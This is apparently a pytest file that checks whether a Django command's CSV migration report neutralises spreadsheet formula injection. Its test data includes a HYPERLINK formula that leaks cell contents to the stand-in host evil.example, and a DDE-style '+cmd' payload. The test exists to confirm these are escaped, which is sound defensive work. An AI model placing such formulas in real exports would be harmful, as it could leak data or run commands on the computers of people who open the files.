"""`manage.py migration report --format csv` neutralises spreadsheet formulas as the web export does."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from migrations_engine.models import RecordMap
from tests.access.conftest import make_migration, make_user

pytestmark = pytest.mark.django_db

NASTY = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_cli_csv_report_cells_never_start_a_formula():
    migration = make_migration(make_user("ops@acme.test"), "CSV")
    RecordMap.objects.create(migration=migration, entity="ticket", source_id="@SUM(1+1)", state="failed",
                             reason=NASTY, source_url="+cmd|' /C calc'!A0")
    RecordMap.objects.create(migration=migration, entity="ticket", source_id="42", state="done", reason="ok")
    out = io.StringIO()
    call_command("migration", "report", str(migration.pk), "--format", "csv", "--entity", "ticket", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    bad = next(r for r in rows if r["state"] == "failed")
    assert bad["reason"] == "'" + NASTY and bad["source_id"] == "'@SUM(1+1)"
    assert bad["source_url"] == "'+cmd|' /C calc'!A0"
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    assert next(r for r in rows if r["state"] == "done")["source_id"] == "42"  # plain cells unchanged
